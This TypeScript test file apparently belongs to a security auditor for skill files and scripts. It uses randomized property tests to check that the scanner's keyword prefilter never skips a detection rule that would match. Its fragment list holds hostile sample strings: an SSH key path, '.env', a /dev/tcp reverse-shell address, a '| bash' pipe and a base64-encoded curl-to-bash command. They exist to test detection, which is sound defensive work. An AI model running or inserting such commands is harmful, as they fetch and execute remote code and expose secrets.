/**
 * The triggers only skip work (SPEC §12's budget): a rule they skip could not have matched. For
 * random text mixed with every text rule's examples (both ways, in any letter case, as markdown
 * and as a script), the findings with the triggers skipping rules equal the findings with every
 * rule reading the text.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { auditSkillMd, auditText, RULES } from "../../src/audit/index.js";
import { withEveryRule } from "../../src/audit/scan.js";
import { triggersOf, vocabularyOf, wordsAskedBy } from "../../src/audit/triggers.js";
import { TEXT_RULES } from "../../src/audit/rules.js";
import { mayHoldRun, RUN } from "../../src/audit/decode.js";

const EXAMPLES = RULES.filter((r) => r.target === "text").flatMap((r) => [...r.mustMatch, ...r.mustNotMatch]).map((e) => e.replace(/^#!file:\S+\n/, ""));
const LITERALS = new Set<string>();
const WORDS = [...wordsAskedBy(TEXT_RULES.map((r) => r.needs), 64, LITERALS)];

// Fragments where a looser or stricter trigger would show: word edges (`-`, `_`, digits), the
// characters whose lower case is ASCII, the invisible characters, literals the rules ask for.
const EDGES = ["-", "_", "7", " ", "\n", "\\\n", "\t", ".", "/", "\u0130", "\u212a", "\u200b", "\u200d", "\u202e", "\ufe0f", "\u{e0041}", "\u{e0110}", "\\x63", "<!--", "-->", "!`", "`", "é", "—", "~/.ssh/id_rsa", ".env", "/dev/tcp/203.0.113.9/4444", "http://203.0.113.7/x", "| bash", "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvaSB8IGJhc2g="];

const casing = fc.constantFrom<(s: string) => string>((s) => s, (s) => s.toUpperCase(), (s) => s.replace(/^./, (c) => c.toUpperCase()));
const fragment = fc.oneof(
  { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...EXAMPLES), casing).map(([e, c]) => c(e)) },
  { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...WORDS), casing).map(([w, c]) => c(w)) },
  { weight: 3, arbitrary: fc.constantFrom(...EDGES) },
  { weight: 2, arbitrary: fc.tuple(fc.constantFrom(...LITERALS), casing).map(([l, c]) => c(l)) },
  { weight: 2, arbitrary: fc.string({ maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 6 }) },
);
const text = fc.array(fragment, { maxLength: 14 }).map((parts) => parts.join(""));

function both(judge: () => unknown): void {
  assert.deepEqual(judge(), withEveryRule(judge));
}

test("the triggers never skip a rule that matches: findings with them equal findings without, on random text mixed with the rules' examples", () => {
  fc.assert(
    fc.property(text, (t) => {
      both(() => auditSkillMd(t, null));
      both(() => auditText("scripts/run.sh", t));
      both(() => auditText("notes.txt", t));
    }),
    { numRuns: 3000, seed: 20261204 },
  );
});

test("every rule's must-match example still finds the same without the triggers, in any letter case", () => {
  for (const e of EXAMPLES) {
    for (const c of [(s: string) => s, (s: string) => s.toUpperCase()]) {
      both(() => auditSkillMd(c(e), null));
      both(() => auditText("scripts/run.sh", c(e)));
    }
  }
});

test("the word pass answers as the split of the text into words does, for the words it was told about", () => {
  const vocabulary = vocabularyOf(WORDS);
  fc.assert(
    fc.property(text, (t) => {
      const fast = triggersOf(t, vocabulary);
      const split = triggersOf(t);
      // Looser only: a word the split sees, the pass sees too.
      for (const w of WORDS) if (split.any(w)) assert.ok(fast.any(w), `${JSON.stringify(w)} in ${JSON.stringify(t)}`);
      for (const l of LITERALS) if (t.includes(l)) assert.ok(fast.holds(l), `${JSON.stringify(l)} in ${JSON.stringify(t)}`);
      assert.equal(fast.nonAscii(), /[^\x00-\x7f]/.test(t));
    }),
    { numRuns: 2000, seed: 7 },
  );
  // The edges themselves: the Kelvin sign lower-cases to `k`, a hyphen joins words for the split.
  assert.equal(triggersOf("\u212aeep", vocabulary).any("keep"), true);
  assert.equal(triggersOf("x-curl", vocabulary).any("curl"), true);
  assert.equal(triggersOf("curly", vocabulary).any("curl"), false);
});

test("the blob gate never skips a text holding a blob: wherever the blob search matches, the gate lets it look", () => {
  const runChar = fc.constantFrom(..."Aa0+/_-=");
  const piece = fc.oneof(
    fc.array(runChar, { minLength: 20, maxLength: 30 }).map((cs) => cs.join("")),
    fc.constantFrom(" ", "\\", "\n", "é", "\\x6", "\\x63", ".", "=="),
    fc.string({ maxLength: 8 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }).map((p) => p.join("")), (t) => {
      RUN.lastIndex = 0;
      if (RUN.test(t)) assert.ok(mayHoldRun(t), JSON.stringify(t));
    }),
    { numRuns: 5000, seed: 11 },
  );
  // At the limit and one short of it, at the start, the end and inside a text.
  const run = (n: number): string => "Ab0+/_-x".repeat(4).slice(0, n);
  for (const [before, after] of [["", ""], ["see ", ""], ["", " end"], ["a ", " b"]]) {
    assert.equal(mayHoldRun(`${before}${run(24)}${after}`), true);
    assert.equal(mayHoldRun(`${before}${run(23)}${after}`), false);
  }
  assert.equal(mayHoldRun("printf '\\x63'"), true);
});

test("the word scan sees a word exactly where it stands between word boundaries, in any letter case, and a literal exactly where it is written", () => {
  // Looser only would be sound, but a scan that answers yes too often runs every rule over every
  // text: the budget of SPEC §12 is the scan's exactness.
  const vocabulary = vocabularyOf(WORDS);
  const bounded = (w: string, t: string): boolean => new RegExp(`(?<![A-Za-z0-9_])${w.replace(/-/g, "\\-")}(?![A-Za-z0-9_])`, "i").test(t);
  fc.assert(
    fc.property(text, (t) => {
      // The two characters that lower-case into ASCII send a text to the split as well (looser on purpose).
      if (/[\u0130\u212a]/.test(t)) return;
      const fast = triggersOf(t, vocabulary);
      for (const w of WORDS) assert.equal(fast.any(w), bounded(w, t), `${JSON.stringify(w)} in ${JSON.stringify(t)}`);
      for (const l of LITERALS) assert.equal(fast.holds(l), t.includes(l), `${JSON.stringify(l)} in ${JSON.stringify(t)}`);
    }),
    { numRuns: 2000, seed: 13 },
  );
  // The edges: a hyphenated word whole, not its last part alone; a word at the text's start and end; none in an empty text.
  const w = (t: string, word: string): boolean => triggersOf(t, vocabulary).any(word);
  assert.equal(w("run Invoke-WebRequest now", "invoke-webrequest"), true);
  assert.equal(w("run xInvoke-WebRequest now", "invoke-webrequest"), false);
  assert.equal(w("run Invoke-WebRequestx now", "invoke-webrequest"), false);
  assert.equal(w("-WebRequest", "invoke-webrequest"), false);
  assert.equal(w("curl", "curl"), true);
  assert.equal(w("xcurl", "curl"), false);
  assert.equal(w("curl_x", "curl"), false);
  assert.equal(w("", "curl"), false);
  assert.equal(w("nothing here", "curl"), false);
  assert.equal(triggersOf("plain words", vocabulary).any("curl", "wget"), false);
  assert.equal(triggersOf("then WGET it", vocabulary).any("curl", "wget"), true);
});
